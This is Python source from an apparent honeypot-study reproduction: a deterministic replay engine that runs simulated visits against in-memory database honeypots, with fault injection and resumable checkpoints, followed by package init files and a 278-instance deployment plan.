from repro.agents.population import World
from repro.clients.wire import Wire, WireError
from repro.deployment.plan import DeploymentPlan
from repro.honeypots.base import MemoryWire, SessionContext
from repro.netsim.clock import EXPERIMENT_START, SimClock
from repro.obs import live as obs_live
from repro.obs import logging as obs_logging
from repro.pipeline.logstore import LogEvent
from repro.resilience import faults
from repro.runtime import worker_context

__all__ = [
    "OpsOptions", "ScheduledVisit", "VisitOutcome", "ReplayEngine",
    "SerialExecutor", "ShardedExecutor", "WorkerLostError",
    "build_engine", "compile_visits", "schedule_digest", "shard_of",
]


class WorkerLostError(RuntimeError):
    """A shard worker process died mid-replay (e.g. SIGKILL).

    Raised by the driver-side merge instead of the raw
    ``BrokenProcessPool`` so callers (``repro chaos`` auto-recovery,
    tests) can distinguish "a worker was killed -- resume" from a
    programming error.
    """

#: One schedule entry: (time offset, actor IP, per-actor sequence, visit).
ScheduledVisit = tuple[float, str, int, Visit]


def compile_visits(world: World, plan: DeploymentPlan,
                   seed: int) -> list[ScheduledVisit]:
    """Expand all actors into one time-ordered visit schedule."""
    schedule: list[ScheduledVisit] = []
    for actor in world.actors:
        for sequence, visit in enumerate(actor.compile(plan, seed)):
            schedule.append((visit.time_offset, actor.ip, sequence, visit))
    schedule.sort(key=lambda item: (item[0], item[1], item[2]))
    return schedule


def schedule_digest(schedule: Sequence[ScheduledVisit]) -> str:
    """Content digest of a compiled schedule's identity columns.

    Recorded in the run journal header and recomputed on resume: equal
    digests prove the recompiled schedule is the one the checkpoints
    were taken against (same seed, scale, and population code), which
    is what licenses fast-forwarding past a watermark.
    """
    import hashlib

    digest = hashlib.sha256()
    for offset, actor_ip, sequence, visit in schedule:
        digest.update(f"{offset!r}:{actor_ip}:{sequence}:"
                      f"{visit.target_key}\n".encode("utf-8"))
    return digest.hexdigest()


def shard_of(target_key: str, workers: int) -> int:
    """Deterministic shard assignment (stable across processes/runs).

    Keyed on the visit's target honeypot: honeypots carry cross-session
    state, so all sessions of one honeypot must replay on one worker
    (see the module docstring's determinism argument).
    """
    return zlib.crc32(target_key.encode("utf-8")) % workers


@dataclass(slots=True)
class VisitOutcome:
    """Everything one replayed visit produced."""

    offset: float
    actor_ip: str
    sequence: int
    target_key: str
    events: list[LogEvent]
    bytes_in: int = 0
    bytes_out: int = 0
    #: ``"ExceptionType: message"`` when the visit crashed (its events
    #: then belong in the dead letter, not the pipeline).
    failure: str | None = None
    #: True when a resume fast-forwarded this visit: its events are
    #: already durable on disk, so ``events`` is stripped (saving the
    #: cross-process copy) and only ``events_count`` survives for the
    #: run-wide accounting.
    committed: bool = False
    #: Event count recorded before a committed outcome's events were
    #: stripped; ``None`` for live outcomes.
    events_count: int | None = None

    @property
    def key(self) -> tuple[float, str, int]:
        return (self.offset, self.actor_ip, self.sequence)

    def event_total(self) -> int:
        """Events this visit generated, whether or not still attached."""
        return (self.events_count if self.events_count is not None
                else len(self.events))


@dataclass(slots=True)
class _DriverWire:
    """A MemoryWire wrapper that surfaces server-side closes and the
    ``wire.disconnect`` injection site to the visiting script."""

    inner: MemoryWire
    fault_plan: faults.FaultPlan

    def connect(self) -> bytes:
        return self.inner.connect()

    def send(self, data: bytes) -> bytes:
        if self.inner.server_closed:
            raise WireError("connection closed by server")
        if not self.fault_plan.is_noop:
            self.fault_plan.maybe_raise(
                "wire.disconnect",
                lambda: WireError("connection reset by peer (injected)"))
        return self.inner.send(data)

    def close(self) -> None:
        self.inner.close()


def _replay_visit(plan: DeploymentPlan, clock: SimClock, seed: int,
                  offset: float, actor_ip: str, sequence: int,
                  visit: Visit, span: Callable,
                  rng: random.Random | None = None) -> VisitOutcome:
    """Replay one visit into a private buffer; never raises.

    Crash containment: a session/script exception marks the outcome
    failed (its events travel with it, for the dead letter) and the
    replay continues -- one poisoned session must never abort the whole
    deployment window.

    Ambient state (the fault plan, the telemetry bundle) is resolved
    once here and threaded through the visit's wires, so the
    per-message ``send()`` hot path never touches a thread-local.  The
    visit key is formatted once and shared by the RNG seed and the
    keyed ``visit.crash`` draw -- ``f"{seed}:{visit_key}"`` is
    character-identical to the historical ``f"{seed}:{ip}:{seq}"``
    derivation, and re-seeding a loop-reused ``rng`` is CPython's own
    ``Random(str)`` construction path, so every random stream is
    unchanged.
    """
    clock.seek(EXPERIMENT_START + timedelta(seconds=offset))
    visit_key = f"{actor_ip}:{sequence}"
    if rng is None:
        rng = random.Random(f"{seed}:{visit_key}")
    else:
        rng.seed(f"{seed}:{visit_key}")
    events: list[LogEvent] = []
    open_wires: list[MemoryWire] = []
    metrics = obs.current().metrics
    fault_plan = faults.current()

    def opener(target_key: str, *, _ip=actor_ip, _rng=rng) -> Wire:
        target = plan.by_key(target_key)
        context = SessionContext(
            src_ip=_ip, src_port=_rng.randint(1024, 65535),
            clock=clock, sink=events.append)
        wire = MemoryWire(target.honeypot, context, fault_plan)
        open_wires.append(wire)
        return _DriverWire(wire, fault_plan)

    failure: str | None = None
    try:
        with span("replay.visit", actor=actor_ip,
                  target=visit.target_key, seq=sequence):
            if not fault_plan.is_noop:
                fault_plan.maybe_raise("visit.crash", key=visit_key)
            visit.script(VisitContext(opener=opener,
                                      target_key=visit.target_key,
                                      rng=rng))
    except Exception as error:
        failure = f"{type(error).__name__}: {error}"
    # Close any connection the script left dangling, and fold the
    # per-session byte counters into the visit totals.
    bytes_in = 0
    bytes_out = 0
    for wire in open_wires:
        try:
            wire.close()
        except Exception:
            metrics.inc("resilience.close_errors")
        bytes_in += wire.context.bytes_in
        bytes_out += wire.context.bytes_out
    return VisitOutcome(offset=offset, actor_ip=actor_ip,
                        sequence=sequence, target_key=visit.target_key,
                        events=events, bytes_in=bytes_in,
                        bytes_out=bytes_out, failure=failure)


@dataclass
class OpsOptions:
    """Driver-provided live-ops wiring for one replay.

    Everything is optional and additive: with the default options a
    replay behaves exactly as before (no bus, no shard tracing, no
    flight dumps), so live telemetry can never perturb the event
    stream -- it only *observes* the worker registries.
    """

    #: Stream shard metrics deltas to the parent over the bus.
    live: bool = False
    #: Seconds between shard delta emissions.
    emit_interval: float = 0.5
    #: Parent-side live aggregate (shared with ``/metrics``); the
    #: executor builds one if live is on and none is given.
    aggregator: "obs_live.LiveAggregator | None" = None
    #: Runs on the bus drainer thread after each fold (progress lines,
    #: incremental snapshots); exceptions are contained by the bus.
    on_message: "Callable | None" = None
    #: Give each shard a real tracer and stitch its spans back into
    #: the driver timeline (shard-prefixed pids in the Chrome export).
    trace_shards: bool = False
    #: Directory for crash flight dumps (``flight_shard<k>.jsonl``).
    flight_dir: Path | None = None
    #: Correlation id bound into every worker ops-log record.
    run_id: str | None = None
    #: Stream outcomes to the driver as they replay (required for
    #: mid-run checkpoints; the default eager mode delivers them only
    #: after every shard finishes).
    stream_outcomes: bool = False
    #: Resume watermark ``(offset, ip, seq)``: visits at or below it
    #: fast-forward (honeypot state + RNG/fault accounting rebuilt,
    #: events stripped as already durable).
    watermark: tuple[float, str, int] | None = None


@dataclass
class _WorkerOps:
    """The picklable slice of :class:`OpsOptions` a worker needs
    (the bus queue rides separately: inherited over fork, passed by
    reference to threads)."""

    tracing: bool = False
    emit_interval: float = 0.5
    flight_dir: str | None = None
    run_id: str | None = None
    watermark: tuple[float, str, int] | None = None
    #: ``proc.kill`` evaluates only in forked workers (a serial or
    #: thread "worker" is the driver -- killing it is not a recoverable
    #: chaos scenario); the seeded victim draw needs the worker count.
    kill_armed: bool = False
    workers: int = 1


class ReplayEngine:
    """Turns a compiled schedule into an ordered outcome stream."""

    name = "abstract"
    workers = 1
    #: Populated by :meth:`replay` with the manifest's ``replay``
    #: section (shard sizes, per-shard wall times, merge time).
    stats: dict | None = None

    def replay(self, schedule: Sequence[ScheduledVisit],
               plan: DeploymentPlan, seed: int,
               telemetry: obs.Telemetry,
               ops: OpsOptions | None = None) -> Iterator[VisitOutcome]:
        raise NotImplementedError


class SerialExecutor(ReplayEngine):
    """Single-threaded replay in schedule order (the reference engine).

    The driver's own registry *is* the live aggregate here -- metrics
    land in it as visits replay -- so the bus is never needed; the ops
    options only contribute the flight-dump coverage the driver
    already arms process-wide.
    """

    name = "serial"

    def replay(self, schedule: Sequence[ScheduledVisit],
               plan: DeploymentPlan, seed: int,
               telemetry: obs.Telemetry,
               ops: OpsOptions | None = None) -> Iterator[VisitOutcome]:
        self.stats = {"executor": self.name, "workers": 1}
        watermark = ops.watermark if ops is not None else None
        clock = SimClock()
        span = telemetry.tracer.span
        rng = random.Random()  # reused: re-seeded per visit
        for offset, actor_ip, sequence, visit in schedule:
            if watermark is not None and \
                    (offset, actor_ip, sequence) <= watermark:
                yield _fast_forward_visit(plan, clock, seed, offset,
                                          actor_ip, sequence, visit, rng)
            else:
                yield _replay_visit(plan, clock, seed, offset, actor_ip,
                                    sequence, visit, span, rng)


def _fast_forward_visit(plan: DeploymentPlan, clock: SimClock, seed: int,
                        offset: float, actor_ip: str, sequence: int,
                        visit: Visit,
                        rng: random.Random | None = None) -> VisitOutcome:
    """Re-replay an already-committed visit during a resume.

    Honeypots are stateful across sessions, so the only way to put the
    fleet back into its pre-crash state is to replay the committed
    prefix -- with the same per-visit RNG derivation and keyed fault
    decisions, so the rebuilt state is bit-for-bit what the original
    run produced.  Metrics and tracing are muted (the run journal
    restores the driver-side snapshot instead, avoiding double
    counting), fault-plan counters still advance (chaos accounting must
    span the crash boundary), and the events are stripped: they are
    already fsync-durable on disk, which is what the checkpoint proved.
    """
    with obs.install_local(obs.NULL_TELEMETRY):
        outcome = _replay_visit(plan, clock, seed, offset, actor_ip,
                                sequence, visit,
                                obs.NULL_TELEMETRY.tracer.span, rng)
    outcome.events_count = len(outcome.events)
    outcome.events = []
    outcome.committed = True
    return outcome


@dataclass
class _ShardResult:
    """What one worker ships back to the driver."""

    shard: int
    outcomes: list[VisitOutcome]
    wall_seconds: float
    #: :meth:`repro.runtime.RunContext.report` of the worker.
    report: dict
    #: Shard totals, counted in the worker -- the streaming mode ships
    #: outcomes over the queue instead of in ``outcomes``, so the stats
    #: cannot be recomputed from the result object.
    visits: int = 0
    events: int = 0
    quarantined: int = 0


#: Copy-on-write state for fork-pool workers, set by the parent
#: immediately before the pool is created (workers inherit it).
_FORK_STATE: dict | None = None


def _replay_shard(plan: DeploymentPlan, shard: int,
                  schedule: Sequence[ScheduledVisit], seed: int,
                  telemetry_enabled: bool,
                  fault_payload: dict | None,
                  ops: _WorkerOps | None = None,
                  bus_queue=None, outcome_queue=None) -> _ShardResult:
    """Replay one shard under its own thread-local runtime context.

    With ``outcome_queue`` (streaming mode) each outcome is shipped to
    the driver as it replays -- ``("outcome", shard, outcome)`` tuples
    followed by one ``("done", shard)`` marker -- instead of
    accumulating in the result.
    """
    if ops is None:
        ops = _WorkerOps()
    context = worker_context(telemetry_enabled, fault_payload,
                             tracing=ops.tracing)
    telemetry = context.telemetry
    emitter = None
    if bus_queue is not None and telemetry_enabled:
        emitter = obs_live.ShardEmitter(shard, telemetry.metrics,
                                        bus_queue.put,
                                        interval=ops.emit_interval)
    correlation = {"shard": shard}
    if ops.run_id is not None:
        correlation["run_id"] = ops.run_id
    flight_path = (Path(ops.flight_dir) / f"flight_shard{shard}.jsonl"
                   if ops.flight_dir is not None and telemetry_enabled
                   else None)
    watermark = (tuple(ops.watermark) if ops.watermark is not None
                 else None)
    start = time.perf_counter()
    outcomes = []
    visits = events_total = quarantined = 0
    with context.activate_local(), obs_logging.bind(**correlation):
        shard_plan = faults.current()
        kill_armed = ops.kill_armed and shard_plan is not faults.NULL_PLAN
        if kill_armed:
            # Every worker derives the same seeded victim; only the
            # victim shard ever evaluates the site, so the kill point
            # is reproducible and exactly one worker dies.
            victim = random.Random(
                f"{shard_plan.seed}:proc.kill:victim").randrange(
                    max(1, ops.workers))
            kill_armed = victim == shard
        logger = telemetry.logger
        logger.info("shard.start", visits=len(schedule),
                    resuming=watermark is not None)
        with (telemetry.flight.armed(flight_path) if flight_path
              else _NO_FLIGHT):
            span = telemetry.tracer.span
            clock = SimClock()
            rng = random.Random()  # reused: re-seeded per visit
            for offset, actor_ip, sequence, visit in schedule:
                committed = (watermark is not None and
                             (offset, actor_ip, sequence) <= watermark)
                if kill_armed and not committed and \
                        shard_plan.should_fire("proc.kill"):
                    logger.error("proc.kill", actor=actor_ip,
                                 seq=sequence,
                                 target=visit.target_key)
                    os.kill(os.getpid(), signal.SIGKILL)
                if committed:
                    outcome = _fast_forward_visit(plan, clock, seed,
                                                  offset, actor_ip,
                                                  sequence, visit, rng)
                else:
                    outcome = _replay_visit(plan, clock, seed, offset,
                                            actor_ip, sequence, visit,
                                            span, rng)
                visits += 1
                events_total += outcome.event_total()
                if outcome.failure is not None:
                    quarantined += 1
                    if not committed:
                        logger.warning("visit.quarantined",
                                       actor=actor_ip, seq=sequence,
                                       target=visit.target_key,
                                       failure=outcome.failure)
                if emitter is not None:
                    emitter.advance(outcome.event_total())
                if outcome_queue is not None:
                    outcome_queue.put(("outcome", shard, outcome))
                else:
                    outcomes.append(outcome)
        if outcome_queue is not None:
            outcome_queue.put(("done", shard))
        if emitter is not None:
            emitter.flush()
        logger.info("shard.done", visits=visits, events=events_total)
    return _ShardResult(shard=shard, outcomes=outcomes,
                        wall_seconds=time.perf_counter() - start,
                        report=context.report(), visits=visits,
                        events=events_total, quarantined=quarantined)


class _NoFlight:
    """Placeholder context when no flight dump path is configured."""

    def __enter__(self) -> None:
        return None

    def __exit__(self, exc_type, exc, tb) -> bool:
        return False


_NO_FLIGHT = _NoFlight()


def _check_futures(futures) -> None:
    """Surface a dead worker while the streaming merge is idle.

    SIGKILLing a pool worker breaks every pending future; without this
    check the merge would poll its queue forever.
    """
    for future in futures:
        if future.done() and future.exception() is not None:
            error = future.exception()
            if isinstance(error, BrokenProcessPool):
                raise WorkerLostError(
                    "shard worker process died mid-replay") from error
            raise error


def _replay_shard_forked(shard: int) -> _ShardResult:
    state = _FORK_STATE
    assert state is not None, "fork state not set before pool creation"
    return _replay_shard(state["plan"], shard, state["shards"][shard],
                         state["seed"], state["telemetry_enabled"],
                         state["fault_payload"], state["ops"],
                         state["bus_queue"], state.get("outcome_queue"))


class ShardedExecutor(ReplayEngine):
    """Partition-by-actor replay on a worker pool, merged canonically.

    ``pool`` selects the worker flavor: ``"fork"`` (process pool,
    copy-on-write state -- the default where available), ``"thread"``
    (in-process, useful where fork is not), or ``"auto"``.
    """

    name = "sharded"

    def __init__(self, workers: int, *, pool: str = "auto"):
        if workers < 1:
            raise ValueError(f"workers must be >= 1, got {workers}")
        if pool not in ("auto", "fork", "thread"):
            raise ValueError(f"unknown pool {pool!r}")
        if pool == "auto":
            pool = ("fork" if "fork"
                    in multiprocessing.get_all_start_methods()
                    else "thread")
        self.workers = workers
        self.pool = pool
        #: Parent-side live bus of the most recent replay (``None``
        #: unless :class:`OpsOptions` enabled streaming telemetry).
        self.live_bus: "obs_live.LiveBus | None" = None

    def replay(self, schedule: Sequence[ScheduledVisit],
               plan: DeploymentPlan, seed: int,
               telemetry: obs.Telemetry,
               ops: OpsOptions | None = None) -> Iterator[VisitOutcome]:
        shards = [[] for _ in range(self.workers)]
        for entry in schedule:
            shards[shard_of(entry[3].target_key, self.workers)].append(entry)
        fault_payload = None
        driver_plan = faults.current()
        if driver_plan is not faults.NULL_PLAN:
            fault_payload = driver_plan.payload()

        bus = None
        worker_ops = None
        if ops is not None:
            if ops.live and telemetry.enabled:
                bus = obs_live.LiveBus(self._make_queue(),
                                       aggregator=ops.aggregator,
                                       on_message=ops.on_message)
                bus.start()
            worker_ops = _WorkerOps(
                tracing=ops.trace_shards and telemetry.enabled,
                emit_interval=ops.emit_interval,
                flight_dir=(str(ops.flight_dir)
                            if ops.flight_dir is not None else None),
                run_id=ops.run_id,
                watermark=ops.watermark,
                kill_armed=(self.pool == "fork" and
                            "proc.kill" in driver_plan.sites),
                workers=self.workers)
        elif self.pool == "fork" and "proc.kill" in driver_plan.sites:
            worker_ops = _WorkerOps(kill_armed=True,
                                    workers=self.workers)
        self.live_bus = bus

        if ops is not None and ops.stream_outcomes:
            return self._replay_streaming(plan, shards, seed, telemetry,
                                          driver_plan, fault_payload,
                                          worker_ops, bus)

        try:
            results = self._run_shards(plan, shards, seed,
                                       telemetry.enabled, fault_payload,
                                       worker_ops,
                                       bus.queue if bus else None)
        finally:
            # Every worker's final flush was queued before its future
            # resolved, so stopping here folds the complete stream.
            if bus is not None:
                bus.stop()

        live_stats, stitched_spans = self._absorb_results(
            results, telemetry, driver_plan, worker_ops, bus)
        merge_start = time.perf_counter()
        merged = list(heapq.merge(*(result.outcomes for result in results),
                                  key=lambda outcome: outcome.key))
        merge_seconds = time.perf_counter() - merge_start
        self.stats = self._build_stats(results, merge_seconds,
                                       live_stats, stitched_spans)
        return iter(merged)

    def _replay_streaming(self, plan, shards, seed, telemetry,
                          driver_plan, fault_payload, worker_ops,
                          bus) -> Iterator[VisitOutcome]:
        """Incremental k-way merge of live per-shard outcome streams.

        Workers push each outcome over a dedicated queue as it replays;
        the driver emits an outcome as soon as every unfinished shard
        has something buffered (its key is then globally minimal, since
        each shard's stream is canonically ordered).  This is what lets
        the driver checkpoint mid-run -- the eager mode only yields
        after every shard finishes.  A worker death surfaces as
        :class:`WorkerLostError` instead of a hang.
        """
        global _FORK_STATE
        if worker_ops is None:
            worker_ops = _WorkerOps()
        count = len(shards)
        out_queue = self._make_outcome_queue()
        buffers: list[deque] = [deque() for _ in range(count)]
        done = [False] * count
        results: list[_ShardResult] = []

        def emit_ready() -> Iterator[VisitOutcome]:
            while True:
                ready = [i for i in range(count) if buffers[i]]
                if not ready or not all(done[i] or buffers[i]
                                        for i in range(count)):
                    return
                best = min(ready, key=lambda i: buffers[i][0].key)
                yield buffers[best].popleft()

        try:
            if self.pool == "thread":
                pool_factory = ThreadPoolExecutor(max_workers=self.workers)

                def submit(pool):
                    return [pool.submit(_replay_shard, plan, index,
                                        shards[index], seed,
                                        telemetry.enabled, fault_payload,
                                        worker_ops,
                                        bus.queue if bus else None,
                                        out_queue)
                            for index in range(count)]
            else:
                _FORK_STATE = {
                    "plan": plan, "shards": shards, "seed": seed,
                    "telemetry_enabled": telemetry.enabled,
                    "fault_payload": fault_payload, "ops": worker_ops,
                    "bus_queue": bus.queue if bus else None,
                    "outcome_queue": out_queue}
                pool_factory = ProcessPoolExecutor(
                    max_workers=self.workers,
                    mp_context=multiprocessing.get_context("fork"))

                def submit(pool):
                    return [pool.submit(_replay_shard_forked, index)
                            for index in range(count)]

            with pool_factory as pool:
                futures = submit(pool)
                pending = count
                while pending:
                    try:
                        message = out_queue.get(timeout=0.25)
                    except queue_module.Empty:
                        _check_futures(futures)
                        continue
                    if message[0] == "done":
                        done[message[1]] = True
                        pending -= 1
                    else:
                        buffers[message[1]].append(message[2])
                    yield from emit_ready()
                for outcome in heapq.merge(*buffers,
                                           key=lambda o: o.key):
                    yield outcome
                try:
                    results = [future.result() for future in futures]
                except BrokenProcessPool as error:
                    raise WorkerLostError(
                        "shard worker process died mid-replay") \
                        from error
        finally:
            _FORK_STATE = None
            if bus is not None:
                bus.stop()

        live_stats, stitched_spans = self._absorb_results(
            results, telemetry, driver_plan, worker_ops, bus)
        self.stats = self._build_stats(results, None, live_stats,
                                       stitched_spans, streaming=True)

    def _absorb_results(self, results, telemetry, driver_plan,
                        worker_ops, bus):
        """Fold each worker's metrics and fault counters back into the
        driver's ambient runtime so run-wide accounting stays exact.
        (The live aggregate is display-side only; this end-of-run merge
        stays the single source of truth for the manifest.)"""
        merged_reports = obs.MetricsRegistry() if telemetry.enabled \
            else None
        for result in results:
            metrics = result.report.get("metrics")
            if metrics:
                telemetry.metrics.merge(metrics)
                if merged_reports is not None:
                    merged_reports.merge(metrics)
            fault_counts = result.report.get("faults")
            if fault_counts:
                driver_plan.absorb(fault_counts)

        stitched_spans = 0
        if worker_ops is not None and worker_ops.tracing:
            # Stitch per-shard traces into one timeline: the driver's
            # spans stay on Chrome pid 1, each shard gets its own
            # process lane.
            telemetry.tracer.process_names.setdefault(1, "driver")
            for result in sorted(results, key=lambda r: r.shard):
                spans = result.report.get("spans") or []
                stitched_spans += telemetry.tracer.absorb(
                    spans, pid=result.shard + 2,
                    name=f"shard {result.shard}")

        live_stats = None
        if bus is not None:
            progress = bus.aggregator.progress()
            live_stats = {
                "emissions": progress["emissions"],
                "callback_errors": bus.callback_errors,
                # The delta-merge invariant, checked on every live run:
                # folding the streamed deltas must reconstruct exactly
                # the end-of-run merged registry (counters+histograms).
                "equals_merged": obs_live.counters_equal(
                    bus.aggregator.snapshot(),
                    merged_reports.snapshot()),
            }
        return live_stats, stitched_spans

    def _build_stats(self, results, merge_seconds, live_stats,
                     stitched_spans, *, streaming=False) -> dict:
        return {
            "executor": self.name,
            "workers": self.workers,
            "pool": self.pool,
            "merge_seconds": merge_seconds,
            "streaming": streaming,
            "live": live_stats,
            "stitched_spans": stitched_spans,
            "shards": [{
                "shard": result.shard,
                "visits": result.visits,
                "events": result.events,
                "quarantined_visits": result.quarantined,
                "wall_seconds": result.wall_seconds,
            } for result in sorted(results, key=lambda r: r.shard)],
        }

    def _make_queue(self):
        """A bus queue workers of this pool flavor can reach: plain
        in-process for threads, a fork-context pipe for processes."""
        if self.pool == "thread":
            return queue_module.Queue()
        return multiprocessing.get_context("fork").SimpleQueue()

    def _make_outcome_queue(self):
        """The streaming outcome queue needs ``get(timeout=...)`` (so
        the driver can poll for dead workers), which SimpleQueue lacks."""
        if self.pool == "thread":
            return queue_module.Queue()
        return multiprocessing.get_context("fork").Queue()

    def _run_shards(self, plan, shards, seed, telemetry_enabled,
                    fault_payload, worker_ops=None,
                    bus_queue=None) -> list[_ShardResult]:
        global _FORK_STATE
        if self.pool == "thread":
            with ThreadPoolExecutor(max_workers=self.workers) as pool:
                futures = [
                    pool.submit(_replay_shard, plan, index, shard, seed,
                                telemetry_enabled, fault_payload,
                                worker_ops, bus_queue)
                    for index, shard in enumerate(shards)]
                return [future.result() for future in futures]
        # Fork pool: workers inherit plan + shards copy-on-write, so
        # nothing is rebuilt and only outcomes cross the process
        # boundary.  Each worker replays against its own (inherited,
        # fresh) honeypot fleet.
        _FORK_STATE = {"plan": plan, "shards": shards, "seed": seed,
                       "telemetry_enabled": telemetry_enabled,
                       "fault_payload": fault_payload,
                       "ops": worker_ops, "bus_queue": bus_queue}
        try:
            context = multiprocessing.get_context("fork")
            with ProcessPoolExecutor(max_workers=self.workers,
                                     mp_context=context) as pool:
                futures = [pool.submit(_replay_shard_forked, index)
                           for index in range(len(shards))]
                try:
                    return [future.result() for future in futures]
                except BrokenProcessPool as error:
                    raise WorkerLostError(
                        "shard worker process died mid-replay") \
                        from error
        finally:
            _FORK_STATE = None


def resolve_workers(requested: "int | str", *,
                    cores: int | None = None) -> int:
    """Resolve a ``--workers`` request into a concrete worker count.

    ``"auto"`` resolves to ``min(requested_cores, cpu_count)`` -- i.e.
    one worker per available core, and never more than the host can
    actually run (on a single-core host that is serial replay, the
    faster configuration there per ``BENCH_replay.json``).  An explicit
    integer is honored verbatim, but when it shards on a single-core
    host -- where sharding measured 0.75x serial -- a warning goes to
    stderr and the ``replay.single_core_sharding`` counter, so users
    do not silently pessimize their runs.
    """
    if cores is None:
        cores = os.cpu_count() or 1
    if requested == "auto":
        return max(1, cores)
    try:
        workers = int(requested)
    except (TypeError, ValueError):
        raise ValueError(f"workers must be an integer >= 1 or 'auto', "
                         f"got {requested!r}") from None
    if workers < 1:
        raise ValueError(f"workers must be >= 1 or 'auto', "
                         f"got {requested!r}")
    if workers > 1 and cores == 1:
        obs.current().metrics.inc("replay.single_core_sharding",
                                  workers=workers)
        obs.current().logger.warning("replay.single_core_sharding",
                                     workers=workers, cores=cores)
        print(f"warning: --workers {workers} shards the replay on a "
              f"single-core host, which benchmarks slower than serial "
              f"(see BENCH_replay.json); use --workers auto to match "
              f"the hardware", file=sys.stderr)
    return workers


def build_engine(workers: int, executor: str = "auto",
                 pool: str = "auto") -> ReplayEngine:
    """Resolve ``ExperimentConfig.workers``/``executor``/``pool``
    into an engine."""
    if workers < 1:
        raise ValueError(f"workers must be >= 1, got {workers}")
    if executor == "auto":
        executor = "sharded" if workers > 1 else "serial"
    if executor == "serial":
        return SerialExecutor()
    if executor == "sharded":
        return ShardedExecutor(workers, pool=pool)
    raise ValueError(f"unknown executor {executor!r} "
                     "(expected auto, serial, or sharded)")
