"""Experiment deployment and orchestration.

:mod:`repro.deployment.plan` encodes Table 4 (the 278-instance honeypot
deployment); :mod:`repro.deployment.experiment` replays the 20-day
collection window against a synthetic actor population and runs the data
pipeline, producing the SQLite databases the analysis layer consumes.
"""

from repro.deployment.plan import (DeploymentPlan, DeploymentTarget,
                                   build_plan)
from repro.deployment.experiment import (ExperimentConfig, ExperimentResult,
                                         run_experiment)

__all__ = [
    "DeploymentPlan",
    "DeploymentTarget",
    "build_plan",
    "ExperimentConfig",
    "ExperimentResult",
    "run_experiment",
]
