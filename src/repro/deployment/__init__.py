"""Experiment deployment and orchestration.

:mod:`repro.deployment.plan` encodes Table 4 (the 278-instance honeypot
deployment); :mod:`repro.deployment.replay` turns the compiled visit
schedule into an ordered outcome stream (serially, or sharded by actor
IP across workers); :mod:`repro.deployment.experiment` drives the
20-day collection window against a synthetic actor population and runs
the data pipeline, producing the SQLite databases the analysis layer
consumes.
"""

from repro.deployment.plan import (DeploymentPlan, DeploymentTarget,
                                   build_plan)
from repro.deployment.replay import (ReplayEngine, SerialExecutor,
                                     ShardedExecutor, VisitOutcome,
                                     build_engine, compile_visits,
                                     resolve_workers, shard_of)
from repro.deployment.experiment import (ExperimentConfig, ExperimentResult,
                                         run_experiment)

__all__ = [
    "DeploymentPlan",
    "DeploymentTarget",
    "build_plan",
    "ExperimentConfig",
    "ExperimentResult",
    "ReplayEngine",
    "SerialExecutor",
    "ShardedExecutor",
    "VisitOutcome",
    "build_engine",
    "compile_visits",
    "resolve_workers",
    "run_experiment",
    "shard_of",
]
