"""The honeypot deployment plan (Table 4 of the paper).

278 honeypot instances:

* 200 low-interaction honeypots: 50 multi-service VMs, each exposing
  MySQL, PostgreSQL, Redis and MSSQL behind one IP (config ``multi``),
* 20 low-interaction honeypots: 20 single-service VMs, five per DBMS
  (config ``single``) -- the control group for the honeypot-obviousness
  question,
* 20 medium-interaction Redis (10 ``default`` + 10 ``fake_data``),
* 20 medium-interaction PostgreSQL (10 ``default`` + 10
  ``login_disabled``),
* 10 medium-interaction Elasticsearch (``default``),
* 8 high-interaction MongoDB (``fake_data``), one per country.
"""

from __future__ import annotations

import difflib
from dataclasses import dataclass, field
from functools import cached_property

from repro.honeypots import (Elasticpot, Honeypot, LowInteractionMSSQL,
                             LowInteractionMySQL, LowInteractionPostgres,
                             LowInteractionRedis, MongoHoneypot,
                             RedisHoneypot, StickyElephant)

#: Countries hosting the eight MongoDB instances.
MONGODB_COUNTRIES = ("Australia", "Canada", "Germany", "India",
                     "Netherlands", "Singapore", "United Kingdom",
                     "United States")

#: DBMS order on the multi-service VMs.
LOW_DBMS = ("mysql", "postgresql", "redis", "mssql")

_LOW_CLASSES = {
    "mysql": LowInteractionMySQL,
    "postgresql": LowInteractionPostgres,
    "redis": LowInteractionRedis,
    "mssql": LowInteractionMSSQL,
}


@dataclass(frozen=True)
class DeploymentTarget:
    """One deployed honeypot instance, addressable by ``key``.

    ``host`` groups instances sharing a public IP (the multi-service
    VMs); ``location`` is the hosting country.
    """

    key: str
    host: str
    honeypot: Honeypot
    location: str = "Netherlands"

    # Identity fields are stable for the honeypot's lifetime but cost a
    # chain of attribute hops through ``honeypot.info``; cached_property
    # stores the resolved value in the instance ``__dict__`` (allowed on
    # frozen dataclasses -- it bypasses ``__setattr__``) so the hot
    # compile path pays the chain once per target, not 9M times per run.

    @cached_property
    def dbms(self) -> str:
        return self.honeypot.dbms

    @cached_property
    def interaction(self) -> str:
        return self.honeypot.interaction

    @cached_property
    def config(self) -> str:
        return self.honeypot.info.config


@dataclass
class DeploymentPlan:
    """The full deployment, with lookup helpers for the actor layer.

    ``__post_init__`` precomputes immutable lookup tables so the
    per-behavior ``select()`` / ``hosts()`` calls in the compile hot
    path are dict lookups rather than linear scans over all targets.
    ``select_calls`` counts lookups (an analysis-style counter surfaced
    by ``repro profile`` and the compile-throughput benchmark) so CI can
    fail if an O(agents x targets) scan is ever reintroduced.
    """

    targets: list[DeploymentTarget] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._by_key = {target.key: target for target in self.targets}
        # (interaction|None, dbms|None, config|None) -> tuple of targets
        # in plan order.  Each target lands in all 8 wildcard
        # combinations of its identity triple, so any filter is O(1).
        select_index: dict[tuple[str | None, str | None, str | None],
                           list[DeploymentTarget]] = {}
        hosts_index: dict[str, dict[str, None]] = {}
        for target in self.targets:
            identity = (target.interaction, target.dbms, target.config)
            for mask in range(8):
                bucket = (identity[0] if mask & 4 else None,
                          identity[1] if mask & 2 else None,
                          identity[2] if mask & 1 else None)
                select_index.setdefault(bucket, []).append(target)
            hosts_index.setdefault(target.config, {}).setdefault(
                target.host, None)
        self._select_index = {bucket: tuple(found)
                              for bucket, found in select_index.items()}
        self._keys_index = {
            bucket: tuple(target.key for target in found)
            for bucket, found in self._select_index.items()}
        self._hosts_index = {config: tuple(seen)
                             for config, seen in hosts_index.items()}
        # Behavior-level target pools (see repro.agents.pools), resolved
        # once per (kind, dbms, scope) for the plan's lifetime.
        self._pool_cache: dict[tuple, tuple[str, ...]] = {}
        self.select_calls = 0

    def by_key(self, key: str) -> DeploymentTarget:
        """Look up one target."""
        try:
            return self._by_key[key]
        except KeyError:
            close = difflib.get_close_matches(key, self._by_key, n=3)
            hint = (f"; nearest matches: {', '.join(close)}" if close
                    else "")
            raise KeyError(
